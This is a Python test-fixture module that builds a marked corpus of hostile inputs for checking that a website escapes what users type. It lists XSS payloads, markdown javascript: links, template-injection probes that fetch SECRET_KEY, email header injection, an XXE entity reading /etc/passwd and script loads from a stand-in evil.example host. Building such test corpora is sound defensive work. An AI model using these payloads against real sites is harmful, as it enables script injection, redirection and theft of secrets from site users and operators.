"""A hostile-input corpus of our own: text that tries to become markup, script, headers or
broken XML/JSON wherever the site echoes what people type.

Every payload carries a unique marker (`kfsx001`, …). Where a payload would run script it
calls `__xss('<marker>')` (or `alert('<marker>')`), so a browser test can set a canary and
see which one fired; where it would form an element or an attribute, the marker is in that
element's or attribute's name or value, so a parser finds it there instead of in the text.

`PAYLOADS` are accepted as text in every free-text field (title, organization, summary,
source titles, notes); `REFUSED` hold characters a story may not store: NUL (PostgreSQL
cannot) and the C0 controls that XML 1.0 cannot hold (the feeds), answered with a 4xx.
"""

from dataclasses import dataclass

CANARY = "__xss"


@dataclass(frozen=True)
class Payload:
    marker: str
    category: str
    text: str


def _build(start: int, entries: list[tuple[str, str]]) -> tuple[Payload, ...]:
    built = []
    for number, (category, template) in enumerate(entries, start=start):
        marker = f"kfsx{number:03d}"
        text = template.replace("@C", f"{CANARY}('@M')").replace("@M", marker)
        built.append(Payload(marker=marker, category=category, text=text))
    return tuple(built)


# "@M" is the payload's marker; "@C" a call of the canary with it.
_ACCEPTED: list[tuple[str, str]] = [
    # The incident: a summary that broke out of <meta content="…"> and refreshed the page.
    ("meta-refresh", '0;url=http://evil.example/@M" http-equiv="refresh" data-x="'),
    ("meta-refresh", "0;url=javascript:@C' http-equiv='refresh' data-@M='"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=http://evil.example/@M">'),
    ("meta-refresh", '"><meta http-equiv="refresh" content="0;url=http://evil.example/@M">'),
    ("meta-refresh", '<base href="http://evil.example/@M/">'),
    ("meta-refresh", '<link rel="stylesheet" href="http://evil.example/@M.css">'),
    # Script elements, plain and mangled.
    ("script", "<script>@C</script>"),
    ("script", "<SCRIPT SRC=//evil.example/@M.js></SCRIPT>"),
    ("script", "<scr<script>ipt>@C</scr</script>ipt>"),
    ("script", "<<script>script>@C<</script>/script>"),
    ("script", '<script type="text/javascript">@C;</script>'),
    ("script", "<script\n>@C</script\n>"),
    # Event handlers in many elements.
    ("handler", "<img src=x onerror=@C>"),
    ("handler", "<IMG SRC=x OnErRoR=@C data-@M>"),
    ("handler", "<img/src=x\nonerror=@C>"),
    ("handler", "<svg onload=@C>"),
    ("handler", "<svg/onload=@C>"),
    ("handler", "<body onload=@C>"),
    ("handler", "<details open ontoggle=@C>@M</details>"),
    ("handler", "<input autofocus onfocus=@C name=@M>"),
    ("handler", "<select autofocus onfocus=@C></select>"),
    ("handler", "<textarea autofocus onfocus=@C>@M</textarea>"),
    ("handler", "<video><source onerror=@C></video>"),
    ("handler", "<audio src=x onerror=@C>"),
    ("handler", "<marquee onstart=@C>@M</marquee>"),
    ("handler", '<div onmouseover="@C">hover @M</div>'),
    ("handler", '<a href="#" onclick="@C">click @M</a>'),
    ("handler", "<iframe src=javascript:@C></iframe>"),
    ("handler", '<iframe srcdoc="<script>@C</script>"></iframe>'),
    ("handler", '<object data="javascript:@C"></object>'),
    ("handler", '<embed src="javascript:@C">'),
    ("handler", '<form action="javascript:@C"><button>@M</button></form>'),
    ("handler", '<button formaction="javascript:@C">@M</button>'),
    # Breaking out of an attribute value with each kind of quote.
    ("attribute", '" onmouseover="@C" data-@M="'),
    ("attribute", "' onmouseover='@C' data-@M='"),
    ("attribute", "` onmouseover=`@C` data-@M=`"),
    ("attribute", '"><img src=x onerror=@C data-@M>'),
    ("attribute", "'><svg onload=@C data-@M>"),
    ("attribute", '" autofocus onfocus="@C" data-@M="'),
    ("attribute", '"/><script>@C</script><p data-@M="'),
    ("attribute", "x onerror=@C data-@M"),
    # Closing the element the text sits in.
    ("context", "</title><script>@C</script>"),
    ("context", "</textarea><script>@C</script>"),
    ("context", "</style><script>@C</script>"),
    ("context", "</noscript><img src=x onerror=@C>"),
    ("context", "--><script>@C</script><!--"),
    ("context", '<!--<img src="--><img src=x onerror=@C//">'),
    ("context", "</option></select><img src=x onerror=@C>"),
    ("context", "</h1></a></p><svg onload=@C>"),
    ("context", "<plaintext>@M"),
    # Markdown links, images and reference links to script URLs.
    ("markdown", "[@M](javascript:@C)"),
    ("markdown", "[@M](JaVaScRiPt:@C)"),
    ("markdown", "[@M](javascript&#58;@C)"),
    ("markdown", "[@M](&#106;avascript:@C)"),
    ("markdown", "[@M](&#x6A;&#x61;vascript:@C)"),
    ("markdown", "[@M](<java script:@C>)"),
    ("markdown", "[@M](%6Aavascript:@C)"),
    ("markdown", '[@M](vbscript:msgbox("@M"))'),
    ("markdown", "[@M](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("markdown", "[@M](data:text/html,<script>@C</script>)"),
    ("markdown", "![@M](javascript:@C)"),
    ("markdown", "![@M](data:image/svg+xml,<svg/onload=@C>)"),
    ("markdown", "![@M](https://evil.example/@M.png)"),
    ("markdown", "[@M][evil-@M]\n\n[evil-@M]: javascript:@C"),
    ("markdown", '[@M][ref-@M]\n\n[ref-@M]: <vbscript:@C> "title @M"'),
    ("markdown", "<javascript:@C>"),
    ("markdown", "<vbscript:@M>"),
    ("markdown", '[@M](https://example.org/ "t\\" onmouseover=\\"@C")'),
    ("markdown", "[@M](https://example.org/\"onmouseover='@C')"),
    ("markdown", '[@M](mailto:x@evil.example?body="><script>@C</script>)'),
    ("markdown", "[@M](//evil.example/@M)"),
    ("markdown", "[@M](/admin/?next=@M)"),
    ("markdown", "```html\n<script>@C</script>\n```"),
    ("markdown", '```"><img src=x onerror=@C>\n@M\n```'),
    ("markdown", "| @M | <img src=x onerror=@C> |\n|---|---|\n| `</td><script>` | x |"),
    # SVG and MathML, including parser-differential (mutation) tricks.
    ("svg-math", "<svg><script>@C</script></svg>"),
    ("svg-math", '<svg><a xlink:href="javascript:@C"><text>@M</text></a></svg>'),
    ("svg-math", "<svg><animate onbegin=@C attributeName=x dur=1s>"),
    ("svg-math", '<math href="javascript:@C">@M</math>'),
    ("svg-math", "<math><mtext><table><mglyph><style><img src=x onerror=@C>"),
    ("svg-math", '<noscript><p title="</noscript><img src=x onerror=@C>">'),
    ("svg-math", '<svg><foreignObject><iframe srcdoc="&lt;script&gt;@C&lt;/script&gt;">'),
    # CSS.
    ("css", '<div style="width:expression(@C)">@M</div>'),
    ("css", '<p style="background:url(javascript:@C)">@M</p>'),
    ("css", "<style>@import 'http://evil.example/@M.css';</style>"),
    ("css", '</style><style>body{background:url("javascript:@C")}</style>'),
    # Template engines that must never evaluate what people type.
    ("template", "{{7*7}} {{ @M }}"),
    ("template", "{% debug %} @M"),
    ("template", "{% load log %}{% get_admin_log 10 as log %}{{ settings.SECRET_KEY }} @M"),
    ("template", "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('@C')()}}"),
    # Header and email injection.
    ("crlf", "@M\r\nBcc: x@evil.example"),
    ("crlf", "@M\nSubject: hijacked\n\nInjected body"),
    ("crlf", "@M%0d%0aBcc:%20x@evil.example"),
    ("crlf", "=?utf-8?q?=0D=0ABcc:x@evil.example?= @M"),
    # Unicode tricks.
    ("unicode", "@M \u202egnp.exe\u202c"),
    ("unicode", "@M zero\u200bwidth\u200d joiners\ufeff"),
    ("unicode", "\uff1cscript\uff1e@C\uff1c/script\uff1e"),
    ("unicode", "<scr\u200bipt>@C</scr\u200bipt>"),
    ("unicode", "@M line\u2028separator\u2029paragraph"),
    ("unicode", "@M a\u0301\u0301\u0301 \U0001f4a5 \u0130 \u00df"),
    # Characters that break XML (feeds, sitemap) unless escaped.
    ("xml", "@M & < > ' \" ]]> &amp;amp; &lt;b&gt;"),
    ("xml", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e; @M'),
    ("xml", "<![CDATA[<script>@C</script>]]>"),
    ("xml", "@M \ufffe\uffff non-characters"),
    # Breaking out of JSON or JavaScript embedded in a page.
    ("json", '{"a": "</script><script>@C</script>"}'),
    ("json", '"}]}; @C; //'),
    ("json", "\\u003c/script\\u003e\\u003cscript\\u003e@C @M"),
    ("json", '\\"; @C; //'),
    # Polyglots: one string for several contexts at once.
    (
        "polyglot",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=@C )//%0D%0A%0d%0a//"
        "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=@C//>\\x3e",
    ),
    ("polyglot", "'\"><svg/onload=@C>{{7*7}}<!--"),
    ("polyglot", "\"'--></style></script></textarea></title><script>@C</script>"),
    ("polyglot", "';@C;//\";@C;//--></SCRIPT>\">'><SCRIPT>@C</SCRIPT>"),
]

_REFUSED: list[tuple[str, str]] = [
    ("nul", "@M \x00 NUL"),
    ("control", "@M \x01\x02 search marks \x03\x1b controls"),
    ("control", "@M \x08 backspace"),
    ("control", "@M \x0b vertical tab and \x0c form feed"),
]

PAYLOADS: tuple[Payload, ...] = _build(1, _ACCEPTED)
REFUSED: tuple[Payload, ...] = _build(len(_ACCEPTED) + 1, _REFUSED)
ALL: tuple[Payload, ...] = PAYLOADS + REFUSED
BY_MARKER = {payload.marker: payload for payload in ALL}
MARKERS = tuple(BY_MARKER)

assert len(BY_MARKER) == len(ALL), "markers must be unique"
assert len({p.text for p in ALL}) == len(ALL), "payloads must be distinct"
